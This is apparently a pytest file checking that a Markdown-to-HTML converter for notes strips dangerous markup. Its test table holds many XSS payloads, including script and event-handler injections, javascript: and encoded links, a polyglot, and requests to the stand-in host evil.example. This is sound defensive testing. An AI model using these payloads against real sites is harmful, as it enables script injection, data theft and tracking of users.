"""Markdown of notes: what it becomes, and that nothing in it runs or calls home."""

import re

import pytest

from bellwether.web.markdown import to_html

pytestmark = pytest.mark.one_database

SAFE_TAGS = {
    "a", "blockquote", "br", "code", "em", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre", "s", "strong", "table",
    "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
ATTACKS = {
    "script": "<script>alert(1)</script>",
    "image_onerror": '<img src=x onerror="alert(1)">',
    "svg_onload": "<svg onload=alert(1)>",
    "svg_script": "<svg><script>alert(1)</script></svg>",
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "body": "<body onload=alert(1)>",
    "details": "<details open ontoggle=alert(1)>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "template": "<template><img src=x onerror=alert(1)></template>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "form": '<form action="https://evil.example"><input name=q></form>',
    "style": "<style>@import 'https://evil.example/x.css'</style>",
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "object": '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
    "link_javascript": "[go](javascript:alert(1))",
    "link_javascript_mixed": "[go](JaVaScRiPt:alert(1))",
    "link_javascript_entity": "[go](&#106;avascript:alert(1))",
    "link_javascript_tab": "[go](java\tscript:alert(1))",
    "link_javascript_encoded": "[go](javascript&colon;alert(1))",
    "link_vbscript": "[go](vbscript:msgbox(1))",
    "link_data": "[go](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "link_file": "[go](file:///etc/passwd)",
    "link_reference": "[go][1]\n\n[1]: javascript:alert(1)",
    "link_title": '[go](https://a.example "x\\" onmouseover=\\"alert(1)")',
    "autolink": "<javascript:alert(1)>",
    "image_javascript": "![x](javascript:alert(1))",
    "image_tracker": "![x](https://evil.example/pixel.gif)",
    "image_reference": "![x][1]\n\n[1]: https://evil.example/pixel.gif",
    "fence_language": '```"><img src=x onerror=alert(1)>\ncode\n```',
    "code_span": "`<img src=x onerror=alert(1)>`",
    "comment": "<!--<img src=x onerror=alert(1)>-->",
    "unclosed": '<a href="https://a.example" onclick="alert(1)',
    "table_cell": "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
    "heading": "# <script>alert(1)</script>",
    "null": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "polyglot": "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//</stYle/--!>\x3csVg/<sVg/oNloAd=alert()//>",
}  # fmt: skip


class TestAttacks:
    @pytest.mark.parametrize("name", sorted(ATTACKS))
    def test_leave_only_safe_tags_and_addresses(self, name: str) -> None:
        made = to_html(ATTACKS[name])
        tags = re.findall(r"<\s*/?\s*([a-zA-Z][a-zA-Z0-9]*)([^>]*)>", made)
        assert {tag.lower() for tag, _ in tags} <= SAFE_TAGS
        for _, attributes in tags:
            assert not re.search(r"\s(on\w+|style|src|srcset|action|id|class)\s*=", _without_values(attributes), re.I)
            for address in re.findall(r'href="([^"]*)"', attributes):
                assert re.match(r"(https?:|mailto:)", address)

    def test_text_of_markup_is_shown_as_it_was_typed(self) -> None:
        assert to_html("a <b>bold</b> claim") == "<p>a &lt;b&gt;bold&lt;/b&gt; claim</p>\n"

    def test_an_image_is_a_link_and_loads_nothing(self) -> None:
        made = to_html("![chart](https://elsewhere.example/c.png)")
        assert "<img" not in made
        assert '<a href="https://elsewhere.example/c.png" rel="noopener nofollow noreferrer">chart</a>' in made


def _without_values(attributes: str) -> str:
    return re.sub(r'"[^"]*"', '""', attributes)


class TestText:
    def test_knows_what_people_write(self) -> None:
        made = to_html("**Goal**\nsave *time*\n\n- one\n- two\n\n1. first\n\n> said\n\n~~old~~ `code`")
        for part in ("<strong>Goal</strong><br>", "<em>time</em>", "<li>one</li>", "<ol>", "<blockquote>", "<s>old</s>",
                     "<code>code</code>"):  # fmt: skip
            assert part in made

    def test_draws_tables(self) -> None:
        assert "<th>Module</th>" in to_html("|Module|Seats|\n|---|--:|\n|Cases|40|")

    def test_links_lead_out_without_a_trace(self) -> None:
        assert to_html("[docs](https://docs.example/a?b=1&c=2)") == (
            '<p><a href="https://docs.example/a?b=1&amp;c=2" rel="noopener nofollow noreferrer">docs</a></p>\n'
        )

    @pytest.mark.parametrize(
        ("text", "tags"),
        [
            ("# a", ["h4"]),
            ("### a", ["h4"]),
            ("# a\n### b\n## c", ["h4", "h5", "h5"]),
            ("# a\n## b\n# c\n", ["h4", "h5", "h4"]),
        ],
        ids=["first", "deep first", "no level skipped", "back up"],
    )
    def test_headings_stand_below_the_title_of_the_note(self, text: str, tags: list[str]) -> None:
        assert re.findall(r"<(h\d)>", to_html(text)) == tags

    def test_nothing_is_nothing(self) -> None:
        assert to_html(" \n") == ""
